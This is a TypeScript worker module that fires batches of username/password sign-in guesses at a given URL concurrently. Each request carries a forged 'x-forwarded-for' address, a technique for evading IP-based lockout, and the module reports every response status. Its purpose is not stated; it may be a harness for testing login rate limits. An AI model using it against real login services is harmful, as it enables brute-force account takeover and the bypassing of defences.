import { Agent, request } from 'node:http';
import { parentPort } from 'node:worker_threads';

/** Sends sign-ins all at once; says when all have left, then what each was told. */
const agent = new Agent({ keepAlive: true, maxSockets: 100 });

parentPort?.on(
  'message',
  ({ url, guesses }: { url: string; guesses: { u: string; p: string; address: string }[] }) => {
    const sent = guesses.map(({ u, p, address }) => send(url, JSON.stringify({ u, p }), address));
    void Promise.all(sent.map(({ left }) => left)).then(() => parentPort?.postMessage('sent'));
    void Promise.all(sent.map(({ status }) => status)).then((all) => parentPort?.postMessage(all));
  },
);

function send(url: string, body: string, address: string): { left: Promise<void>; status: Promise<number> } {
  const headers = { 'content-type': 'application/json', 'x-forwarded-for': address };
  const one = request(url, { method: 'POST', agent, headers });
  const left = new Promise<void>((done) => one.once('finish', done));
  const status = new Promise<number>((done) => {
    one.once('response', (reply) => {
      reply.resume();
      reply.once('end', () => done(reply.statusCode ?? 0));
    });
    one.once('error', () => done(0));
  });
  one.end(body);
  return { left, status };
}
